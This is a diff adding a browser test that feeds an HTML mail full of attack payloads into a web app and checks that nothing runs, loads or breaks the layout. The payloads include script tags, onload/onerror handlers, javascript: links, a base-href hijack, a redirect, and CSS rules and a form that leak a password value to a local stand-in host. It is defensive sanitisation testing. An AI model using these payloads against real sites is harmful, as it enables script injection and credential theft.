@@ -103,6 +103,37 @@ def test_hostile_text_neither_runs_nor_breaks_the_page(
     expect(screen.page.get_by_text("[U+202E]").first).to_be_attached()
 
 
+HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/away">
+<style>@import url(http://127.0.0.1:9/css); input[value^=a] { background: url(http://127.0.0.1:9/leak) }</style></head>
+<body onload="document.title='taken over'"><script>document.title = 'taken over'</script>
+<img src="http://127.0.0.1:9/pixel.gif" onerror="document.title='taken over'"><base href="http://127.0.0.1:9/">
+<form action="http://127.0.0.1:9/f"><input name="password" value="a"><button>Log in</button></form>
+<svg onload="document.title='taken over'"><script>document.title = 'taken over'</script></svg>
+<iframe src="javascript:document.title='taken over'"></iframe><a href="javascript:alert(1)">Hours</a>
+<p>Hello Anna, we open at ten."""
+TOWER = "\u0300" * 3000
+
+
+def test_a_hostile_mail_loads_nothing_runs_nothing_and_covers_nothing(
+    screen: Screen, session: Session, umea: Location, ada: User
+) -> None:
+    page, probe = screen.page, waiting(session, umea)
+    html = f"{HOSTILE_HTML} {TOWER} {'z' * 5_000_000}</p>"
+    scene.mail(session, now(), html, to=probe.from_address, subtype="html")
+    stray = scene.mail(session, now(), html, uid=2, subtype="html")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: screen.complaints.append(dialog.message))
+    sign_in(page, ada)
+    for path in ("/probes", f"/probes/{probe.id}", "/mail/unmatched", f"/mail/unmatched/{stray.id}"):
+        page.goto(path)
+        expect(page).not_to_have_title("taken over")
+        assert page.evaluate("document.body.scrollHeight") < 6000
+        assert page.locator("main :is(form[action*=':9'], iframe, meta, style, svg script)").count() == 0
+    assert [url for url in asked if ":9/" in url] == []
+    assert screen.complaints == []
+
+
 def test_a_picture_of_the_chat_is_shown_and_opens_large(
     screen: Screen, session: Session, umea: Location, ada: User
 ) -> None:
